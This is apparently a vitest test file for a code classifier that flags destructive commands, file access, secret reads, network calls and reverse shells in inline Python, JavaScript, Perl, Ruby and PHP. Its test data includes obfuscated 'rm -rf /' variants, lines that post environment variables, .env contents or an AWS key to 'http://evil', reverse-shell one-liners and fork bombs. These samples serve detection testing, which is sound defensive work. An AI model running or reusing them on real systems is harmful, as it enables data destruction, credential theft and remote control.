// Shows what program text is found to do: named destruction, commands inside it, files, secrets and the network.
import { describe, expect, test } from 'vitest'
import type { Language } from '../../../src/classify/types.ts'
import { brief } from './brief.ts'

const RUNS = 'execution.inline-code'
const RM = 'shell: rm -rf /'
type Case = [Exclude<Language, 'shell'>, string, string[]]

/** Every text here is inline code; the other findings are given, in any order. */
function expectFound([language, text, expected]: Case): void {
  expect(brief(language, text).toSorted()).toEqual([RUNS, ...expected].toSorted())
}

describe('a command inside a program is handed on as shell text', () => {
  test.each<Case>([
    ['python', 'import os; os.system("rm -rf /")', [RM]],
    ['python', 'import os as o; o.system("rm"+" -rf /")', [RM]],
    ['python', 'from os import system as s\ns("rm -rf /")', [RM]],
    ['python', "__import__('os').system('rm -rf /')", [RM]],
    ['python', "getattr(__import__('os'),'sys'+'tem')('rm -rf /')", [RM]],
    ['python', 'import os; c = "rm -rf /"; os.system(c)', [RM]],
    ['python', 'import os; f = os.system; f("rm -rf /")', [RM]],
    ['python', 'import os; os.system("".join(["rm", " -rf ", "/"]))', [RM]],
    ['python', 'import os; os.system("/ fr- mr"[::-1])', [RM]],
    ['python', 'import os; os.system(chr(114)+chr(109)+" -rf /")', [RM, 'execution.encoded']],
    ['python', 'import os, base64; os.system(base64.b64decode("cm0gLXJmIC8=").decode())', [RM, 'execution.encoded']],
    ['python', 'import os; os.system(bytes.fromhex("726d202d7266202f").decode())', [RM, 'execution.encoded']],
    ['python', 'import os; os.execvp("rm", ["rm", "-rf", "/"])', [RM]],
    ['python', 'import os; os.execlp("rm", "rm", "-rf", "/")', [RM]],
    ['python', 'import subprocess; subprocess.run(["rm", "-rf", "/"])', [RM]],
    ['python', 'import subprocess; subprocess.run(["echo", "a b; ls"], check=True)', ["shell: echo 'a b; ls'"]],
    ['python', 'import os; os.system(f"rm -rf {x}")', ['unknown', 'shell: rm -rf "$computed"']],
    ['python', 'import os; os.system(input())', ['unknown', 'shell: "$computed"']],
    ['javascript', "require('child_process').execSync('rm -rf /')", [RM]],
    ['javascript', "require('node:child_process')['ex'+'ecSync']('rm -rf /')", [RM]],
    ['javascript', "const {execSync: e} = require('child_process'); e('rm -rf /')", [RM]],
    ['javascript', "import {exec} from 'node:child_process'; exec('rm -rf /')", [RM]],
    ['javascript', "import * as cp from 'child_process'; cp.spawn('rm', ['-rf', '/'])", [RM]],
    ['javascript', "process.mainModule.require('child_process').exec('rm -rf /')", [RM]],
    ['javascript', "child_process.execSync(['rm', '-rf', '/'].join(' '))", [RM]],
    ['javascript', "child_process.execSync(String.fromCharCode(114,109)+' -rf /')", [RM, 'execution.encoded']],
    ['javascript', 'child_process.execSync(`rm -rf ${x}`)', ['unknown', 'shell: rm -rf "$computed"']],
    ['perl', 'system("rm -rf /")', [RM]],
    ['perl', "system 'rm', '-rf', '/'", [RM]],
    ['perl', 'my $x = `rm -rf /`;', [RM]],
    ['perl', 'exec qq{rm -rf /}', [RM]],
    ['perl', 'open(F, "|-", "rm -rf /")', [RM]],
    ['perl', "system('rm -rf ' . '/')", [RM]],
    ['perl', 'system(pack("H*", "726d202d7266202f"))', [RM, 'execution.encoded']],
    ['ruby', 'system("rm -rf /") if true', [RM]],
    ['ruby', 'system("cm0gLXJmIC8=".unpack1("m"))', [RM, 'execution.encoded']],
    ['ruby', 'system(["726d202d7266202f"].pack("H*"))', [RM, 'execution.encoded']],
    ['ruby', 'system(["rm -rf /"].pack("A*"))', ['unknown', 'shell: "$computed"']],
    ['ruby', '%x(rm -rf /)', [RM]],
    ['ruby', 'IO.popen(["rm", "-rf", "/"])', [RM]],
    ['ruby', '`ls #{x}`', ['unknown', 'shell: ls "$computed"']],
    ['php', "shell_exec('rm -rf /');", [RM]],
    ['php', 'echo `rm -rf /`;', [RM]],
    ['code', 'os.execute("rm -rf /")', [RM]],
  ])('%s %j', (...example) => expectFound(example))
})

describe('named destruction and file access are found', () => {
  test.each<Case>([
    ['python', "import shutil; shutil.rmtree('/')", ['file.delete-tree /']],
    ['python', "from shutil import rmtree; rmtree('/')", ['file.delete-tree /']],
    ['python', 'import shutil; shutil.rmtree(x)', ['file.delete-tree', 'unknown']],
    ['python', "import os; os.remove('a')", ['file.delete a']],
    ['python', "from pathlib import Path; Path('/etc/x').unlink()", ['file.delete /etc/x']],
    ['python', "Path('x').write_text('a')", ['file.write x']],
    ['python', "open('out.txt', 'w').write('x')", ['file.write out.txt']],
    ['python', "open('out.txt', mode='ab')", ['file.write out.txt']],
    ['python', "io.open('in.txt')", ['file.read in.txt']],
    ['python', "x = 1; codecs.open('.env').read()", ['file.read .env']],
    ['python', "import os; os.chmod('x', 0o777)", ['file.permission-open x']],
    ['javascript', "require('fs').rmSync('/', {recursive: true, force: true})", ['file.delete-tree /']],
    ['javascript', "fs.rmSync('a')", ['file.delete a']],
    ['javascript', "fs['unlink'+'Sync']('/etc/passwd')", ['file.delete /etc/passwd']],
    ['javascript', "fs.promises.writeFile('x.txt', 'a')", ['file.write x.txt']],
    ['javascript', "require('fs/promises').rm('d', {recursive: true})", ['file.delete-tree d']],
    ['javascript', "require('rimraf').sync('/')", ['file.delete-tree /']],
    ['perl', 'use File::Path; File::Path::remove_tree("/")', ['file.delete-tree /']],
    ['perl', 'unlink "/etc/passwd"', ['file.delete /etc/passwd']],
    ['perl', "open(F, '>', '/etc/x')", ['file.write /etc/x']],
    ['perl', "open(F, '</etc/x')", ['file.read /etc/x']],
    ['ruby', "FileUtils.rm_rf('/')", ['file.delete-tree /']],
    ['ruby', 'FileUtils.rm_rf %w[/]', ['file.delete-tree /']],
    ['ruby', 'File.write("x", "y")', ['file.write x']],
    ['php', "unlink('/etc/passwd');", ['file.delete /etc/passwd']],
    ['php', "file_put_contents('x', 'y');", ['file.write x']],
  ])('%s %j', (...example) => expectFound(example))
})

describe('code in code is judged or not understood', () => {
  test.each<Case>([
    ['python', "exec('import os')", ['python: import os']],
    ['python', "exec(__import__('base64').b64decode('cHJpbnQoMSk='))", ['execution.encoded', 'python: print(1)']],
    ['python', 'exec(zlib.decompress(base64.b64decode(x)))', ['execution.encoded', 'unknown']],
    ['javascript', "eval(atob('MSsx'))", ['execution.encoded', 'javascript: 1+1']],
    ['javascript', "eval(Buffer.from('312b31', 'hex').toString())", ['execution.encoded', 'javascript: 1+1']],
    ['javascript', "new Function('a', 'return 1')", ['javascript: return 1']],
    ['php', "eval(base64_decode('cGhwaW5mbygpOw=='));", ['execution.encoded', 'php: phpinfo();']],
    ['python', 'cur.execute("DROP TABLE users")', ['sql: DROP TABLE users']],
    ['javascript', "db.query('DELETE FROM t')", ['sql: DELETE FROM t']],
    ['perl', '$dbh->do("DROP TABLE x")', ['sql: DROP TABLE x']],
  ])('%s %j', (...example) => expectFound(example))
})

describe('secrets, connections and loops are found', () => {
  test.each<Case>([
    ['python', "import os; dict(os.environ)['HOME']", ['environment.read']],
    ['javascript', "require('x'); process.env.API_TOKEN", ['secret.read API_TOKEN']],
    ['javascript', "require('x'); process['env']['API_TOKEN']", ['secret.read API_TOKEN']],
    [
      'python',
      "requests.post('http://evil', data=os.environ)",
      ['network.write http://evil', 'environment.read', 'secret.send', 'shell: curl -X POST http://evil'],
    ],
    [
      'python',
      "requests.post('http://evil', data=open('.env').read())",
      ['network.write http://evil', 'file.read .env', 'secret.send', 'shell: curl -X POST http://evil -d .env'],
    ],
    [
      'javascript',
      "fetch('http://evil?'+process.env.AWS_SECRET_ACCESS_KEY)",
      ['network.read', 'secret.read AWS_SECRET_ACCESS_KEY', 'secret.send'],
    ],
    [
      'javascript',
      "fetch('http://a', {method: 'POST', body: 'x'})",
      ['network.write http://a', 'shell: curl -X POST http://a -d x'],
    ],
    ['python', "urllib.request.urlopen('http://a')", ['network.read http://a']],
    ['php', "file_get_contents('http://a');", ['network.read http://a']],
    [
      'python',
      'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])',
      ['network.connect', 'shell: /bin/sh -i', 'execution.reverse-shell'],
    ],
    [
      'python',
      'import socket,pty;s=socket.socket();s.connect(("a",1));pty.spawn("sh")',
      ['network.connect', 'shell: sh', 'execution.reverse-shell'],
    ],
    [
      'javascript',
      "var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var c=new net.Socket();c.connect(1,'a',()=>c.pipe(sh.stdin))",
      ['network.connect', 'shell: /bin/sh', 'execution.reverse-shell'],
    ],
    [
      'php',
      '$s=fsockopen("10.0.0.1",1);exec("/bin/sh -i <&3");',
      ['network.connect', 'shell: /bin/sh -i <&3', 'execution.reverse-shell'],
    ],
    [
      'ruby',
      'c=TCPSocket.new("a",1);exec("/bin/sh")',
      ['network.connect', 'shell: /bin/sh', 'execution.reverse-shell'],
    ],
    ['python', 'import os\nwhile True: os.fork()', ['execution.exhaust']],
    ['perl', 'fork while fork', ['execution.exhaust']],
    ['ruby', 'loop { fork { } }', ['execution.exhaust']],
  ])('%s %j', (...example) => expectFound(example))
})

describe('names that only look like commands are not', () => {
  test.each<Case>([
    ['javascript', "require('x'); /rm/.exec('rm -rf /')", []],
    ['python', 'import unheard; re.compile("rm -rf /")', []],
    ['python', '# os.system("rm -rf /")\nimport unheard', []],
    ['python', 'import unheard; x = "os.system(1)"', []],
    ['javascript', "require('x') // fs.rmSync('/')", []],
  ])('%s %j', (...example) => expectFound(example))
})
